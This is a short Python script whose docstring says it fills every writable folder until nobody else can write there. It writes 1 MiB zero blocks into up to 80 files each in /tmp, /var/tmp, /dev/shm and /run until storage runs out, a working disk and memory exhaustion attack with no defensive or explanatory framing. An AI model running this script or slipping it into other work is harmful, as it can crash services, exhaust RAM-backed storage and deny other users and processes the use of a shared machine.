"""Fill every folder that can be written until nobody else can write there."""

for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run"):
    for number in range(80):
        try:
            with open(f"{folder}/full{number}", "wb", buffering=0) as file:
                while file.write(bytes(1 << 20)):
                    pass
        except OSError:
            continue
